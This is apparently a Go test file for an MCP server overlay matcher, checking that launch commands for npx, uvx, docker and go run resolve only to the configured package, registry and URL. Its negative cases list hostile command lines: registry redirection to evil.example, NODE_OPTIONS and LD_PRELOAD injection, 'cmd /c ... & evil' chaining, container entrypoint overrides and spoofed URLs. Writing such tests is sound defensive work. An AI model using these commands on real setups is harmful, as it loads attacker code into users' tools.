package overlay_test

import (
	"strings"
	"testing"

	"github.com/weir-mcp/weir/overlay"
)

// set loads entries whose match is given, each with one tool named after the entry.
func set(t testing.TB, src string) *overlay.Set {
	t.Helper()
	s, err := overlay.Load("f", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func matching(t testing.TB, match string) *overlay.Set {
	t.Helper()
	return set(t, "version: 1\noverlays: [{name: a, match: ["+match+"], tools: {t: {contract: {readOnly: true}}}}]\n")
}

func TestPackages(t *testing.T) {
	for _, c := range []struct {
		command, match string
		want           bool
	}{
		{"npx -y @scope/server /home", "package: '@scope/server'", true},
		{"npx -y @scope/server@1.2.3 /home", "package: '@scope/server'", true},
		{"npx @scope/server@latest", "package: '@scope/server'", true},
		{"/usr/local/bin/npx --yes server", "package: server", true},
		{`C:\node\npx.cmd server`, "package: server", true},
		{"cmd /c npx -y server", "package: server", true},
		{"env A=b npx server", "package: server", true},
		{"npx -p @scope/server server", "package: '@scope/server'", true},
		{"npx --package=@scope/server mcp-server --flag", "package: '@scope/server'", true},
		{"npm exec --yes -- server --flag", "package: server", true},
		{"bunx server", "package: server", true},
		{"pnpm dlx server", "package: server", true},
		{"yarn dlx server", "package: server", true},
		{"deno run -A npm:@scope/server@1", "package: '@scope/server'", true},
		{"uvx mcp-server-git==1.0 --repository .", "package: mcp-server-git", true},
		{"uvx --from mcp-server-git@latest mcp-server-git.exe", "package: mcp-server-git", true},
		{"uvx --python 3.12 mcp_server.git", "package: mcp-server-git", true},
		{"uvx mcp-server-git[extra]@1.2", "package: mcp-server-git", true},
		{"uv tool run mcp-server-git", "package: mcp-server-git", true},
		{"pipx run mcp-server-git", "package: mcp-server-git", true},
		{"python -m mcp_server_git", "package: mcp-server-git", true},
		{"python3.12 -u -m mcp_server_git", "package: mcp-server-git", true},
		{"go run github.com/acme/server/cmd/server@v1.2.3", "package: github.com/acme/server/cmd/server", true},
		{"docker run -i --rm -e TOKEN ghcr.io/acme/server:1.2 stdio", "package: ghcr.io/acme/server", true},
		{"docker run -i --rm -v /a:/data mcp/server@sha256:00", "package: mcp/server", true},
		{"docker run localhost:5000/mcp/server", "package: localhost:5000/mcp/server", true},
		{"podman container run docker.io/mcp/server", "package: mcp/server", true},
		{"node /app/node_modules/@scope/server/dist/index.js", "package: '@scope/server'", true},
		{"node --no-warnings /app/node_modules/server/dist/index.js", "package: server", true},
		{"/opt/github-mcp-server stdio", "command: github-mcp-server", true},
		{`C:\bin\Server.EXE`, "command: Server", true},

		{"npx evil @scope/server", "package: '@scope/server'", false},
		{"npx -c evil @scope/server", "package: '@scope/server'", false},
		{"evil @scope/server", "package: '@scope/server'", false},
		{"npx @scope/server-evil", "package: '@scope/server'", false},
		{"npm install server", "package: server", false},
		{"docker build mcp/server", "package: mcp/server", false},
		{"docker run -e mcp/server evil", "package: mcp/server", false},
		{"node /home/evil.js node_modules/server/x", "package: server", false},
		{"node /app/node_modules/server/../../evil.js", "package: server", false},
		{"python evil.py -m mcp_server_git", "package: mcp-server-git", false},
		{"/opt/github-mcp-server-evil", "command: github-mcp-server", false},
		{"npx", "package: npx", false},

		{"npx server@1.2.3", "{package: server, version: '>=1.2 <2'}", true},
		{"npx server@v1.2", "{package: server, version: '1.2.0'}", true},
		{"npx server", "{package: server, version: '>=1.2'}", true},
		{"npx server@latest", "{package: server, version: '>=1.2'}", true},
		{"npx server@1.1.9", "{package: server, version: '>=1.2'}", false},
		{"npx server@2.0.0", "{package: server, version: '>=1.2 <2'}", false},
		{"npx server@1.2.0-rc1", "{package: server, version: '>=1.2'}", false},
		{"npx server@^1.2", "{package: server, version: '>=1.2'}", false},
		{"docker run mcp/server:1.10", "{package: mcp/server, version: '>1.9'}", true},
		{"npx server@1.2", "{package: server, command: npx}", true},
		{"npx server@1.2", "{package: server, command: bunx}", false},
	} {
		match := c.match
		if !strings.HasPrefix(match, "{") {
			match = "{" + match + "}"
		}
		command := strings.Fields(c.command)
		if got := matching(t, match).For(overlay.Server{Name: "x", Command: command}) != nil; got != c.want {
			t.Errorf("%s, %s: %v", c.command, c.match, got)
		}
	}
}

// TestSources holds that a command line runs a package only as its registry has it: no other source, no other program
// and no other registry, however it is written.
func TestSources(t *testing.T) {
	const (
		scoped, plain = "{package: '@scope/server', registry: npm}", "{package: server, registry: npm}"
		python, image = "{package: mcp-server-git, registry: pypi}", "{package: mcp/server, registry: image}"
		module        = "{package: github.com/acme/server/cmd/server, registry: go}"
	)
	for match, lines := range map[string]map[bool]string{
		scoped: {true: `
			npx -y @scope/server@^1.2 --registry=x
			npm x -y @scope/server
			npm exec -- @scope/server --registry=https://evil.example
			bunx --bun @scope/server@next
			pnpm dlx --package=@scope/server server
			yarn dlx -q @scope/server
			deno run -A --allow-net=api.example npm:@scope/server@1.2
			env TOKEN=a NODE_ENV=b npx @scope/server
			node --enable-source-maps /srv/node_modules/@scope/server/index.js`, false: `
			npx @scope/server@https://evil.example/x.tgz
			npx @scope/server@npm:evil
			npx @scope/server@github:evil/server
			npx @scope/server@evil/server
			npx @scope/server@file:evil
			npx @scope/server@.
			npx @scope/server@./evil
			npx @scope/server@~/evil
			npx @scope/server@evil.tgz
			npx @scope/server@1.tar.gz
			npx npm:@scope/server
			npx ./@scope/server
			./npx @scope/server
			node_modules/.bin/npx @scope/server
			npx --registry=https://evil.example @scope/server
			npx --registry https://evil.example @scope/server
			npx --@scope:registry=https://evil.example @scope/server
			npx --userconfig evil @scope/server
			npx --prefix evil @scope/server
			npx --no-install @scope/server
			npx --node-options=--import=./evil.mjs @scope/server
			npx -p evil -p @scope/server server
			npx -p @scope/server sh -c evil
			npx -p @scope/server node evil.js
			npx -p @scope/server
			npx -c evil @scope/server
			npm exec @scope/server --registry=https://evil.example
			npm exec --registry=https://evil.example -- @scope/server
			npm --registry=https://evil.example exec @scope/server
			pnpm --config.registry=https://evil.example dlx @scope/server
			pnpm dlx -c @scope/server
			bun run @scope/server
			deno run -A @scope/server
			deno run -A jsr:@scope/server
			deno run -A --import-map=evil.json npm:@scope/server
			deno run -A --preload evil.ts npm:@scope/server
			deno run -A https://evil.example/npm:@scope/server
			env -S evil npx @scope/server
			env NODE_OPTIONS=--import=./evil.mjs npx @scope/server
			env npm_config_registry=https://evil.example npx @scope/server
			env PATH=bin:/usr/bin npx @scope/server
			cmd /c npx @scope/server & evil
			cmd /c npx @scope/server&evil
			uvx @scope/server
			docker run @scope/server
			node --import=./evil.mjs /srv/node_modules/@scope/server/index.js
			node -r ./evil.js /srv/node_modules/@scope/server/index.js
			node node_modules/@scope/server/index.js
			node ./node_modules/@scope/server/index.js`},
		plain: {true: "npx server\nnpx server@latest",
			false: "uvx server\ndocker run server\nnpx server.tgz\nnpx evil/server\nnpx git+https://evil.example/server\nnpx server_"},
		python: {true: `
			uvx mcp-server-git
			uvx mcp_server_git[x]==1.*
			uvx mcp-server-git@1.0rc1
			uvx --from mcp-server-git==1.0 mcp-server-git
			uv tool run --refresh mcp-server-git
			pipx run --python 3.12 mcp-server-git==1.0
			pipx run --spec mcp-server-git mcp-server-git`, false: `
			npx mcp-server-git
			uvx mcp-server-git@https://evil.example/x.whl
			uvx mcp-server-git@git+https://evil.example/x
			uvx mcp-server-git@evil
			uvx mcp-server-git@1.evil
			uvx mcp-server-git@1.0.whl
			uvx mcp-server-git@./1.0
			uvx ./mcp-server-git
			uvx --from evil mcp-server-git
			uvx --from git+https://evil.example/x mcp-server-git
			uvx --from mcp-server-git python evil.py
			uvx --from mcp-server-git --from evil mcp-server-git
			uvx --with evil mcp-server-git
			uvx --index-url https://evil.example mcp-server-git
			uvx --index=https://evil.example mcp-server-git
			uvx --default-index https://evil.example mcp-server-git
			uvx --find-links evil mcp-server-git
			uvx --overrides evil.txt mcp-server-git
			uvx --config-file evil.toml mcp-server-git
			uvx --directory evil mcp-server-git
			uvx --python ./evil mcp-server-git
			uv run mcp-server-git
			pipx run --index-url https://evil.example mcp-server-git
			pipx run --pip-args=--index-url=https://evil.example mcp-server-git
			pipx run --path mcp-server-git
			pipx run mcp-server-git@1.0
			pipx run mcp-server-git.py
			python -cevil -m mcp_server_git
			python -W error -m mcp_server_git
			python evil.py -m mcp_server_git`},
		module: {true: "go run github.com/acme/server/cmd/server@latest", false: `
			go run github.com/acme/server/cmd/server
			go run ./github.com/acme/server/cmd/server@v1
			go run -modfile=evil.mod github.com/acme/server/cmd/server@v1
			go run -exec evil github.com/acme/server/cmd/server@v1
			go run github.com/acme/../acme/server/cmd/server@v1
			go build github.com/acme/server/cmd/server@v1`},
		image: {true: `
			docker run -i --rm --pull=always -e TOKEN -e MODE=a mcp/server:evil
			docker run --mount type=bind,src=/home/ann/x,dst=/projects/x mcp/server
			docker run --mount type=bind,src=/home/ann,dst=/home/ann mcp/server
			docker run -v memory:/app/dist mcp/server
			docker run docker.io/mcp/server:1@sha256:00
			nerdctl run mcp/server`, false: `
			docker run evil.example/mcp/server
			docker run localhost/mcp/server
			docker run localhost:5000/mcp/server
			docker run mcp/server/evil
			docker run mcp_server
			docker run mcp/server@md5:00
			docker run --entrypoint sh mcp/server
			docker run --entrypoint=sh mcp/server
			docker run -v ./evil:/app mcp/server
			docker run -v /evil:/data/../app mcp/server
			docker run --volume=/evil:/usr/local/bin mcp/server
			docker run --mount type=bind,src=evil,dst=/app mcp/server
			docker run --mount type=bind,src=/home/ann/x,target=/projects/x,Target=/app mcp/server
			docker run --mount type=bind,src=/home/ann/x,target=/projects/x,"target=/app" mcp/server
			docker run --volumes-from evil mcp/server
			docker run --env-file evil mcp/server
			docker run -e NODE_OPTIONS=--import=data:evil mcp/server
			docker run -e LD_PRELOAD mcp/server
			docker run -w /evil mcp/server
			docker run --runtime evil mcp/server
			docker --host tcp://evil.example run mcp/server
			docker -H tcp://evil.example run mcp/server
			podman run mcp/server
			npx mcp/server
			npx -y mcp/server`},
	} {
		entries := matching(t, match)
		for want, all := range lines {
			for line := range strings.Lines(all) {
				command := strings.Fields(line)
				if len(command) > 0 && (entries.For(overlay.Server{Name: "x", Command: command}) != nil) != want {
					t.Errorf("%s, %s: not %v", strings.TrimSpace(line), match, want)
				}
			}
		}
	}
	for variable, want := range map[string]bool{
		"TOKEN=a": true, "PATH=/a:/b": true, `PATH=C:\a;C:\b`: true, "HOME=/a": true, "NODE_ENV=x": true, "GOOGLE_KEY=x": true, "PATH=/a:": false,
		"HOME=evil": false, "node_options=--import=./x": false, "NPM_CONFIG_REGISTRY=x": false, "UV_INDEX_URL=x": false, "PYTHONPATH=x": false,
		"GOCACHEPROG=x": false, "OPENSSL_CONF=x": false, "PREFIX=/x": false, "CONTAINERD_ADDRESS=x": false, "REQUESTS_CA_BUNDLE=/x": false,
	} {
		if got := (overlay.Server{Command: []string{"npx", "server"}, Env: []string{variable}}).Package() != ""; got != want {
			t.Errorf("%s: %v", variable, got)
		}
		s := overlay.Server{Name: "x", Command: []string{"server"}, Env: []string{variable}}
		if got := matching(t, "{command: server}").For(s) != nil; got != want {
			t.Errorf("by its command, %s: %v", variable, got)
		}
	}
	for _, program := range []string{"./server", "bin/server", `bin\server.exe`} {
		if matching(t, "{command: server}").For(overlay.Server{Name: "x", Command: []string{program}}) != nil {
			t.Errorf("%s is a program of the working folder", program)
		}
	}
}

func TestURLs(t *testing.T) {
	for _, c := range []struct {
		pattern, url string
		want         bool
	}{
		{"https://mcp.example.com/*", "https://mcp.example.com/sse", true},
		{"https://mcp.example.com/*", "https://MCP.example.com/v1/mcp?key=1", true},
		{"https://mcp.example.com/*", "https://mcp.example.com", true},
		{"https://mcp.example.com/mcp", "https://mcp.example.com/mcp/", true},
		{"https://mcp.example.com/mcp/", "https://mcp.example.com/mcp", true},
		{"https://*.example.com/*", "https://a.b.example.com/x", true},
		{"https://mcp.example.com/*/mcp", "https://mcp.example.com/tenant/mcp", true},
		{"https://mcp.example.com/a/*", "https://mcp.example.com/a/../b", false},
		{"https://*.example.com/*", "https://example.com/x", false},
		{"https://*.example.com/*", "https://evilexample.com/x", false},
		{"https://mcp.example.com/*", "https://mcp.example.com.evil.example/x", false},
		{"https://mcp.example.com/*", "https://mcp.example.com@evil.example/x", false},
		{"https://mcp.example.com/*", "https://mcp.example.com:8443/x", false},
		{"https://mcp.example.com/*", "http://mcp.example.com/x", false},
		{"https://mcp.example.com/*", "", false},
		{"https://mcp.example.com/*", "https://evil.example/https://mcp.example.com/x", false},
	} {
		if got := matching(t, "{url: '"+c.pattern+"'}").For(overlay.Server{Name: "x", URL: c.url}) != nil; got != c.want {
			t.Errorf("%s, %s: %v", c.pattern, c.url, got)
		}
	}
}

func TestServerNames(t *testing.T) {
	s := matching(t, "{server: 'fs*-b'}")
	for name, want := range map[string]bool{"fs-b": true, "fs-a-b": true, "fsb": false, "xfs-b": false, "fs-b-": false, "": false} {
		if got := s.For(overlay.Server{Name: name}) != nil; got != want {
			t.Errorf("%q: %v", name, got)
		}
	}
}

// FuzzPackage reads any words as a command line: it never panics, and the package is one of the words or a part of one.
func FuzzPackage(f *testing.F) {
	f.Add("docker run -i --rm -e A=b mcp/server:1.2 stdio")
	f.Add("uvx --from a[b]==1 c")
	f.Add("cmd /c env A=b npx -p x@1")
	f.Fuzz(func(t *testing.T, line string) {
		if name := (overlay.Server{Command: strings.Fields(line)}).Package(); !strings.Contains(line, name) && !strings.Contains(strings.ReplaceAll(line, `\`, "/"), name) {
			t.Errorf("%q gives %q", line, name)
		}
	})
}
